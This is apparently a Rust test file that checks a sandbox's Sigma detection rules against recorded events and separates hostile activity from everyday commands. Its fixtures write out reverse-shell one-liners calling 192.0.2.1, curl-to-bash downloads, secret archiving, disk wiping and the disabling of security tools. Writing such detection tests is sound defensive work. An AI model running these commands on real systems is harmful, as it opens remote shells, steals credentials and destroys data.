//! Our rules against what they are for and against everyday work; rules of others, sound and not.

use std::collections::BTreeMap;

use types::{
    Access, Activity, Counters, Ending, Endpoint, Event, Isolation, Kind, Limits, Recording, Run,
    Task, Text, Tier,
};

use super::{evaluate, load};
use crate::built_in;
use crate::folder::{Language, Source};
use crate::report::Report;

/// A recording made by hand. Every `command` is a child of pid 2.
struct Story(Recording, u32);

impl Story {
    fn new() -> Self {
        let text = String::new;
        let run = Run {
            id: text(),
            started_at: text(),
            command: Vec::new(),
            program: Text::default(),
            cwd: Text::default(),
            runner: text(),
            tier: Tier::B,
            isolation: Isolation { walls: Vec::new() },
            limits: Limits {
                timeout_ms: 1,
                memory_bytes: 1,
                pids: 1,
                cpu_percent: 0,
                output_bytes: 1,
                disk_bytes: 1,
            },
            ending: Ending::Exited { code: 0 },
            duration_ns: 1,
            cpu_us: 1,
            memory_peak_bytes: None,
            engine: BTreeMap::new(),
            decoys: Vec::new(),
            script: None,
        };
        let recording = Recording {
            run,
            events: Vec::new(),
            counters: Counters::default(),
            faults: Vec::new(),
            output: None,
            anomaly: None,
            rule_sets: Vec::new(),
            matches: Vec::new(),
            activity: Activity::default(),
        };
        Self(recording, 2).run(2, 1, "/usr/bin/sample", &["sample"])
    }

    fn event(mut self, pid: u32, ppid: u32, kind: Kind) -> Self {
        let id = self.0.events.len() as u64 + 1;
        let task = Task { pid, tid: pid, ppid, start_ns: 0, uid: 1000, comm: Text::from("task") };
        self.0.events.push(Event {
            id,
            time_ns: id * 1_000_000,
            task,
            kind,
            ret: Some(0),
            blocked: false,
            advisory: false,
            truncated: false,
            count: 1,
        });
        self
    }

    fn run(self, pid: u32, ppid: u32, path: &str, argv: &[&str]) -> Self {
        let argv = argv.iter().copied().map(Text::from).collect();
        let (path, cwd) = (Text::from(path), Text::from("/home/sandbox"));
        let (memfd, deleted, stdio) = (false, false, Vec::new());
        self.event(pid, ppid, Kind::Exec { path, argv, cwd, memfd, deleted, stdio })
    }

    /// A program of /usr/bin in a process of its own.
    fn command(mut self, argv: &[&str]) -> Self {
        self.1 += 1;
        let pid = self.1;
        self.run(pid, 2, &format!("/usr/bin/{}", argv[0]), argv)
    }

    /// The last command does something.
    fn does(self, kind: Kind) -> Self {
        let pid = self.1;
        self.event(pid, 2, kind)
    }

    fn writes(self, path: &str) -> Self {
        let path = Text::from(path);
        self.does(Kind::Write { path, writes: 1, bytes: 1, head: String::new() })
    }

    fn last(&mut self) -> &mut Event {
        self.0.events.last_mut().unwrap()
    }

    /// Files of the built-in rules that apply.
    fn matches(&self) -> Vec<String> {
        let sources = built_in::sources();
        let sources: Vec<_> = sources.iter().filter(|s| s.language == Language::Sigma).collect();
        let rules = load(&sources, &mut Report::default());
        let (matches, faults) = evaluate(rules.as_ref(), &self.0);
        assert!(faults.is_empty(), "{faults:?}");
        let file =
            |id: &str| rules.about().iter().find(|about| about.id == id).unwrap().file.clone();
        matches.iter().map(|found| file(&found.rule)).collect()
    }
}

fn connect(address: &str, port: u16) -> Kind {
    Kind::Connect { peer: Endpoint::Inet { ip: address.parse().unwrap(), port } }
}

fn asks(name: &str) -> Kind {
    Kind::Dns { question: Text::from(name), record: 1, server: None }
}

#[test]
fn our_rules_are_complete() {
    let sources = built_in::sources();
    let sources: Vec<_> = sources.iter().filter(|s| s.language == Language::Sigma).collect();
    let mut report = Report::default();
    let rules = load(&sources, &mut report);
    assert_eq!((report.sigma_skipped, &report.unknown_fields), (0, &BTreeMap::new()), "{report:?}");
    assert!(rules.about().len() >= 24);
    for (source, about) in sources.iter().map(|source| {
        let about = rules.about().iter().find(|about| about.file == source.name);
        (source, about.unwrap())
    }) {
        for key in ["author: ShieldX", "status: ", "falsepositives:", "logsource:", "level: "] {
            assert!(source.text.contains(key), "{}: {key}", source.name);
        }
        assert_eq!(about.id.len(), 36, "{}", source.name);
        assert!(!about.techniques.is_empty() && !about.references.is_empty(), "{}", source.name);
        assert!(about.built_in && !about.description.is_empty());
    }
}

/// What programs are started.
fn programs() -> Vec<(&'static str, Story)> {
    let new = Story::new;
    let sh = |text: &'static str| new().command(&["bash", "-c", text]);
    let mut hidden = new().run(9, 2, "/tmp/.cache/.x", &["./.x"]);
    hidden.last().ret = Some(-1);
    hidden.last().blocked = true;
    let discovery = ["whoami", "id", "hostname", "ps", "ss", "df", "lscpu"];
    let discovery = discovery.iter().fold(new(), |story, name| story.command(&[name]));
    let shm = new().run(9, 2, "/dev/shm/a", &["a"]);
    let server = new().run(8, 2, "/usr/sbin/nginx", &["nginx"]).run(9, 8, "/usr/bin/dash", &["sh"]);
    vec![
        ("proc_shell_network_redirection", sh("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")),
        (
            "proc_interpreter_socket_shell",
            new().command(&[
                "python3.11",
                "-c",
                "import socket,os;s=socket.socket();os.dup2(s.fileno(),0);os.system('/bin/sh')",
            ]),
        ),
        ("proc_netcat_shell", new().command(&["nc", "-e", "/bin/sh", "192.0.2.1", "4444"])),
        ("proc_netcat_shell", new().command(&["socat", "tcp:192.0.2.1:1", "exec:bash -li"])),
        ("proc_download_to_shell", sh("curl -fsSL http://192.0.2.1/x | bash")),
        ("proc_decode_to_shell", sh("echo aWQK | base64 -d | sh")),
        ("proc_server_starts_shell", server),
        ("proc_hidden_in_temporary_folder", hidden),
        ("proc_runs_from_shared_memory", shm),
        ("proc_kernel_thread_name", new().run(9, 2, "/tmp/x", &["[kworker/0:1]"])),
        ("proc_setuid_bit", new().command(&["chmod", "4755", "/tmp/x"])),
        ("proc_setuid_bit", new().command(&["chmod", "u+s", "/tmp/x"])),
        ("proc_crontab_installed", new().command(&["crontab", "-"])),
        ("proc_history_removed", sh("unset HISTFILE; rm x")),
        ("proc_history_removed", new().command(&["shred", "/root/.bash_history"])),
        ("proc_security_stopped", new().command(&["systemctl", "stop", "auditd"])),
        ("proc_security_stopped", new().command(&["iptables", "-F"])),
        ("proc_miner_options", new().command(&["x", "-o", "stratum+tcp://192.0.2.1:3333"])),
        ("proc_secrets_archived", new().command(&["tar", "czf", "a", "/root/.ssh", "/root/.aws"])),
        ("proc_disk_overwritten", new().command(&["dd", "if=/dev/zero", "of=/dev/sda"])),
        ("proc_disk_overwritten", new().command(&["rm", "-rf", "--no-preserve-root", "/"])),
        ("proc_kernel_module", new().command(&["insmod", "./x.ko"])),
        ("proc_namespace_of_init", new().command(&["nsenter", "--target", "1", "-m", "sh"])),
        ("proc_reverse_tunnel", new().command(&["ssh", "-N", "-R", "2222:localhost:22", "x"])),
        (
            "proc_terminal_for_shell",
            new().command(&["python3", "-c", "import pty;pty.spawn(\"/bin/bash\")"]),
        ),
        ("proc_discovery_burst", discovery),
    ]
}

/// What programs do.
fn deeds() -> Vec<(&'static str, Story)> {
    let new = Story::new;
    vec![
        ("file_preload", new().command(&["x"]).writes("/etc/ld.so.preload")),
        ("file_cron", new().command(&["x"]).writes("/var/spool/cron/crontabs/root")),
        ("file_systemd_unit", new().command(&["x"]).writes("/etc/systemd/system/x.service")),
        ("file_authorized_keys", new().command(&["x"]).writes("/root/.ssh/authorized_keys")),
        ("file_shell_startup", new().command(&["x"]).writes("/home/a/.bashrc")),
        ("file_accounts", new().command(&["x"]).writes("/etc/passwd")),
        ("file_kernel_callback", new().command(&["x"]).writes("/proc/sys/kernel/core_pattern")),
        (
            "file_logs_deleted",
            new()
                .command(&["rm", "x"])
                .does(Kind::Unlink { path: Text::from("/var/log/wtmp"), directory: false }),
        ),
        ("net_metadata_service", new().command(&["x"]).does(connect("169.254.169.254", 80))),
        ("net_shell_connects", new().command(&["bash"]).does(connect("192.0.2.1", 443))),
        ("dns_callback_services", new().command(&["x"]).does(asks("abc.oast.fun"))),
        (
            "dns_long_names",
            new().command(&["x"]).does(asks(&format!("{}.example.com", "ab".repeat(30)))),
        ),
    ]
}

#[test]
fn every_rule_applies_to_what_it_is_for() {
    let cases: Vec<_> = programs().into_iter().chain(deeds()).collect();
    let mut seen = std::collections::BTreeSet::new();
    for (rule, story) in &cases {
        let file = format!("sigma/{rule}.yml");
        assert!(story.matches().contains(&file), "{rule} does not apply: {:?}", story.matches());
        seen.insert(file);
    }
    let all = built_in::sources();
    for source in all.iter().filter(|source| source.language == Language::Sigma) {
        assert!(seen.contains(&source.name), "nothing tries {}", source.name);
    }
}

#[test]
fn everyday_work_is_nothing_to_our_rules() {
    let new = Story::new;
    let commands: &[&[&str]] = &[
        &["bash", "-c", "curl -fsSL https://example.org/x.tar.gz | tar xz"],
        &["bash", "-c", "cat list | base64 -d > out"],
        &["sh", "-c", "[ -f x ] && echo yes"],
        &["[", "-f", "x", "]"],
        &["python3", "-c", "import socket; print(socket.gethostname())"],
        &["node", "-e", "require('child_process').execSync('ls')"],
        &["perl", "-pe", "s/a/b/", "file"],
        &["nc", "-z", "localhost", "80"],
        &["chmod", "755", "x"],
        &["chmod", "-R", "u+rwX,go-w", "."],
        &["chmod", "0644", "file"],
        &["crontab", "-l"],
        &["systemctl", "status", "rsyslog"],
        &["tar", "xzf", "backup.tar.gz"],
        &["tar", "czf", "src.tar.gz", "src"],
        &["dd", "if=/dev/zero", "of=file", "bs=1M", "count=1"],
        &["rm", "-rf", "/tmp/build"],
        &["rm", "-rf", "./build", "dist/"],
        &["ssh", "host", "uptime"],
        &["ssh", "-p", "22", "-o", "BatchMode=yes", "host"],
        &["git", "clone", "https://example.org/r.git"],
        &["gcc", "-O2", "-o", "x", "x.c"],
        &["make", "-j8"],
        &["id", "-u"],
        &["uname", "-a"],
        &["mkfs.ext4", "disk.img"],
        &["modprobe", "--show-depends", "ext4"],
        &["script", "-c", "make", "log"],
    ];
    for argv in commands {
        let matches = new().command(argv).matches();
        assert!(matches.is_empty(), "{argv:?}: {matches:?}");
    }
    let story = new()
        .command(&["dpkg", "-i", "x.deb"])
        .writes("/etc/cron.d/x")
        .writes("/usr/lib/systemd/system/x.service")
        .command(&["useradd", "x"])
        .writes("/etc/passwd")
        .command(&["cargo", "build"])
        .writes("/home/a/target/debug/x")
        .does(connect("192.0.2.1", 443))
        .does(asks("static.crates.io"))
        .command(&["bash", "x.sh"])
        .does(connect("127.0.0.1", 8080));
    assert!(story.matches().is_empty(), "{:?}", story.matches());
}

fn of(text: &str) -> (Report, Vec<types::RuleMatch>) {
    let source = Source {
        language: Language::Sigma,
        name: "x.yml".to_owned(),
        text: text.to_owned(),
        built_in: false,
    };
    let mut report = Report::default();
    let rules = load(&[&source], &mut report);
    let story = Story::new()
        .command(&["curl", "http://a"])
        .command(&["curl", "http://b"])
        .does(connect("192.0.2.7", 4444))
        .does(Kind::Open {
            path: Text::from("/etc/shadow"),
            access: Access::Read,
            create: false,
            truncate: false,
        });
    let (matches, faults) = evaluate(rules.as_ref(), &story.0);
    assert!(faults.is_empty());
    (report, matches)
}

const HEAD: &str = "title: X\nid: 11111111-1111-1111-1111-111111111111\nlevel: high\n\
                    tags: [attack.t1105, attack.execution]\n";

#[test]
fn rules_of_others_are_read_as_they_are() {
    let (report, matches) = of(&format!(
        "{HEAD}logsource: {{product: linux, category: process_creation}}\ndetection:\n  s:\n    \
         Image|endswith: /curl\n    ParentImage: /usr/bin/sample\n    User: '1000'\n  f:\n    \
         CommandLine|contains: 'http://b'\n  condition: s and not f\n"
    ));
    assert_eq!((report.sigma_rules, report.sigma_skipped), (1, 0));
    assert_eq!(matches.len(), 1);
    assert_eq!(matches[0].events, [2]);
    assert_eq!(
        (matches[0].level.as_str(), &matches[0].techniques[..]),
        ("high", &["T1105".to_owned()][..])
    );
    let network = format!(
        "{HEAD}logsource: {{product: linux, category: network_connection}}\ndetection:\n  s:\n    \
         DestinationPort: 4444\n    DestinationIp|cidr: 192.0.2.0/24\n    Initiated: 'true'\n  \
         condition: s\n"
    );
    assert_eq!(of(&network).1[0].events, [4]);
    let access = "title: no id\nlogsource: {category: file_access}\ndetection:\n  s:\n    \
                  FileName: /etc/shadow\n  condition: s\n";
    let (_, matches) = of(access);
    assert_eq!((matches[0].rule.as_str(), matches[0].level.as_str()), ("no id", "low"));
}

#[test]
fn correlations_count_and_their_rules_keep_quiet() {
    let base = "title: base\nid: a\nname: base\nlogsource: {product: linux, category: \
                process_creation}\ndetection: {s: {Image|endswith: /curl}, condition: s}\n";
    let count = |at_least: u32| {
        of(&format!(
            "{base}---\ntitle: twice\nid: b\nlevel: medium\ncorrelation:\n  type: event_count\n  \
             rules: [base]\n  group-by: [User]\n  timespan: 1m\n  condition: {{gte: {at_least}}}\n"
        ))
    };
    let (report, matches) = count(2);
    assert_eq!(report.sigma_rules, 2);
    assert_eq!(matches.len(), 1, "{matches:?}");
    assert_eq!((matches[0].rule.as_str(), &matches[0].events[..]), ("b", &[2, 3][..]));
    assert!(count(3).1.is_empty());
    let (report, _) =
        of("title: alone\nid: c\ncorrelation:\n  type: event_count\n  rules: [gone]\n  \
                          group-by: [User]\n  timespan: 1m\n  condition: {gte: 1}\n");
    assert_eq!(report.reasons["correlates others"], 1);
}

#[test]
fn what_is_not_for_us_and_what_is_broken_are_told_apart() {
    let reason = |source: &str, status: &str| {
        let text = format!(
            "{HEAD}{status}logsource: {source}\ndetection: {{s: {{a: b}}, condition: s}}\n"
        );
        let (report, _) = of(&text);
        assert!(!report.broken(), "{report:?}");
        report.reasons.into_keys().next().unwrap()
    };
    assert_eq!(reason("{product: windows, category: process_creation}", ""), "product windows");
    assert_eq!(reason("{product: linux, service: auditd}", ""), "service auditd");
    assert_eq!(reason("{category: proxy}", ""), "category proxy");
    assert_eq!(reason("{product: linux}", ""), "no category");
    let ours = "{product: linux, category: process_creation}";
    assert_eq!(reason(ours, "status: deprecated\n"), "status deprecated");

    let broken = [
        format!("{HEAD}logsource: {ours}\ndetection: {{s: {{a: b}}, condition: s and}}\n"),
        format!("{HEAD}logsource: {ours}\ndetection: {{s: {{a: b}}, condition: other}}\n"),
        format!("{HEAD}logsource: {ours}\ndetection: {{s: {{a|re: '('}}, condition: s}}\n"),
        format!("{HEAD}logsource: {ours}\ndetection: {{s: {{a|nonsense: b}}, condition: s}}\n"),
        format!("{HEAD}logsource: [\ndetection: x\n"),
        format!("{HEAD}logsource: {ours}\n"),
    ];
    for text in &broken {
        let (report, _) = of(text);
        assert_eq!((report.broken(), report.sigma_rules), (true, 0), "{text}: {report:?}");
        assert!(!report.skipped[0].detail.is_empty());
    }
    let (report, _) = of("just: settings\n");
    assert_eq!((report.broken(), report.reasons["no rule"]), (false, 1));
    let twice = format!("{HEAD}logsource: {ours}\ndetection: {{s: {{Image: b}}, condition: s}}\n");
    let (report, _) = of(&format!("{twice}---\n{twice}"));
    assert_eq!((report.sigma_rules, report.reasons["id used before"]), (1, 1));
    let unknown = twice.replace("Image", "LogonId");
    assert_eq!(of(&unknown).0.unknown_fields["x.yml"], ["LogonId"]);
}
